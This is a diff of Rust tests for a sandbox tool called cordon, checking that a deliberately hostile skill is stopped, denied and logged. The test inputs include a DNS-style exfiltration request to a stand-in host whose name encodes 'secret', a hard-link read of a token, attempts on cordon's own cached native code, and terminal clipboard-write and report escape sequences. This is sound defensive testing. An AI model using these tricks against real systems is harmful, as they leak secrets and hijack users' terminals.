@@ -255,12 +255,13 @@ fn bad_skills_and_refusals_have_clear_errors_and_exit_statuses() {
     assert_stderr_has(&out, "credentials or secrets location");
 }
 
-#[test]
-fn a_running_skill_is_listed_and_stopped() {
-    let home = Home::new();
+/// Starts the hostile skill with `attack` (one that does not end), waits for `cordon ps` to
+/// list it running, stops it with `cordon stop`, and returns its exit status and stderr.
+fn start_and_stop(home: &Home, attack: &[&str]) -> (Option<i32>, String) {
     let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skill-cache");
+    let hostile = skill("hostile");
     let mut child = KillOnDrop(
-        home.cordon(&["run", "--cpu-ms", "60000", &skill("hostile"), "--", "cpu"])
+        home.cordon(&[&["run", "--cpu-ms", "60000", &hostile, "--"], attack].concat())
             .env("XDG_CACHE_HOME", cache)
             .stdin(Stdio::null())
             .stdout(Stdio::null())
@@ -287,8 +288,174 @@ fn a_running_skill_is_listed_and_stopped() {
         status = child.0.try_wait().unwrap();
         status.is_some()
     });
-    assert_eq!(status.unwrap().code(), Some(1));
     let mut err = String::new();
     std::io::Read::read_to_string(child.0.stderr.as_mut().unwrap(), &mut err).unwrap();
-    assert!(err.contains("stopped on request"), "{err}");
+    (status.unwrap().code(), err)
+}
+
+#[test]
+fn a_running_skill_is_listed_and_stopped() {
+    let home = Home::new();
+    let (code, err) = start_and_stop(&home, &["cpu"]);
+    assert_eq!(code, Some(1));
+    assert!(err.contains("skill stopped on request"), "{err}");
+}
+
+#[test]
+fn a_skill_stopped_while_it_waits_in_a_host_call_is_ended() {
+    let home = Home::new();
+    let (code, err) = start_and_stop(&home, &["sleep", "120"]);
+    assert_eq!(code, Some(1));
+    assert!(
+        err.contains("stopped on request, and it did not return from a host call"),
+        "{err}"
+    );
+}
+
+#[test]
+fn cordons_own_files_inside_a_grant_are_never_reachable() {
+    let home = Home::new();
+    // The cache (compiled skills: native code cordon loads) lies inside the workspace.
+    let cache = home.workspace().join("cache");
+    fs_err::create_dir_all(&cache).unwrap();
+    let run_here = |args: &[&str]| {
+        home.cordon(&[&["run"], args].concat())
+            .env("XDG_CACHE_HOME", &cache)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+    };
+    let out = run_here(&["--dir-ro", ".::/work", &skill("hello")]);
+    assert!(out.status.success(), "{out:?}");
+    let entry = fs_err::read_dir(cache.join("cordon/skills"))
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .file_name();
+    let guest = format!("/work/cache/cordon/skills/{}", entry.to_string_lossy());
+    for attack in ["read", "create-rw"] {
+        let out = run_here(&["--dir", ".::/work", &skill("hostile"), "--", attack, &guest]);
+        assert!(stdout(&out).starts_with("denied:"), "{attack}: {out:?}");
+    }
+    let own = records(&home)
+        .into_iter()
+        .filter(|r| r["capability"] == "file" && r["allow"] == false)
+        .filter(|r| r["reasons"].to_string().contains("cordon's own"))
+        .count();
+    assert_eq!(own, 2);
+}
+
+#[test]
+fn a_hard_link_to_a_file_elsewhere_needs_the_persons_answer() {
+    let home = Home::new();
+    let elsewhere = home.path().join("elsewhere.txt");
+    fs_err::write(&elsewhere, "token-123").unwrap();
+    fs_err::hard_link(&elsewhere, home.workspace().join("innocent.txt")).unwrap();
+    let out = run(
+        &home,
+        &[
+            "--dir-ro",
+            ".::/work",
+            &skill("hostile"),
+            "--",
+            "read",
+            "/work/innocent.txt",
+        ],
+    );
+    assert!(stdout(&out).starts_with("denied: read"), "{out:?}");
+    let refused = records(&home)
+        .into_iter()
+        .find(|r| r["capability"] == "file" && r["allow"] == false)
+        .unwrap();
+    assert_eq!(refused["input"]["resource"]["links"], 2);
+}
+
+#[test]
+fn a_skill_waiting_in_a_host_call_is_ended_by_its_time_limit() {
+    let home = Home::new();
+    let started = std::time::Instant::now();
+    let out = run(
+        &home,
+        &["--time-s", "1", &skill("hostile"), "--", "sleep", "120"],
+    );
+    assert_eq!(out.status.code(), Some(1), "{out:?}");
+    assert_stderr_has(
+        &out,
+        "the time limit was reached, and it did not return from a host call",
+    );
+    assert!(started.elapsed() < std::time::Duration::from_secs(60));
+    let launch = records(&home)
+        .into_iter()
+        .rfind(|r| r["capability"] == "sandbox")
+        .unwrap();
+    assert_eq!(launch["outcome"], "failed");
+}
+
+#[test]
+fn a_looked_up_name_is_recorded_even_when_the_lookup_fails() {
+    let home = Home::new();
+    let out = run(
+        &home,
+        &[
+            "--allow-net",
+            "exfil-c2VjcmV0.invalid",
+            &skill("hostile"),
+            "--",
+            "get",
+            "http://exfil-c2VjcmV0.invalid/",
+        ],
+    );
+    assert!(stdout(&out).starts_with("denied: get"), "{out:?}");
+    let resolved = records(&home)
+        .into_iter()
+        .find(|r| r["capability"] == "net" && r["action"] == "resolve")
+        .expect("the lookup is recorded");
+    assert_eq!(
+        resolved["input"]["resource"]["host"],
+        "exfil-c2vjcmv0.invalid"
+    );
+}
+
+#[test]
+fn escape_sequences_a_skill_writes_to_a_terminal_are_removed() {
+    let home = Home::new();
+    let template = home.cordon(&[]);
+    let line = format!(
+        "{} run {} -- esc",
+        env!("CARGO_BIN_EXE_cordon"),
+        skill("hostile")
+    );
+    // `script` gives cordon a terminal for its output.
+    let mut command = std::process::Command::new("script");
+    command.args(["-q", "-e", "-c", &line, "/dev/null"]);
+    command.current_dir(home.workspace()).env_clear();
+    for (name, value) in template.get_envs() {
+        if let Some(value) = value {
+            command.env(name, value);
+        }
+    }
+    let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skill-cache");
+    let out = command
+        .env("XDG_CACHE_HOME", cache)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let text = stdout(&out);
+    assert!(
+        text.contains("LEAKED: esc"),
+        "the skill ran on a terminal: {text:?}"
+    );
+    assert!(
+        !text.contains("\u{1b}]52"),
+        "the clipboard write was removed: {text:?}"
+    );
+    assert!(
+        !text.contains("\u{1b}[6n"),
+        "the report request was removed: {text:?}"
+    );
+
+    // Not on a terminal, the skill's output passes as written: it did write them.
+    let plain = run(&home, &[&skill("hostile"), "--", "esc"]);
+    assert!(stdout(&plain).contains("\u{1b}]52"));
 }
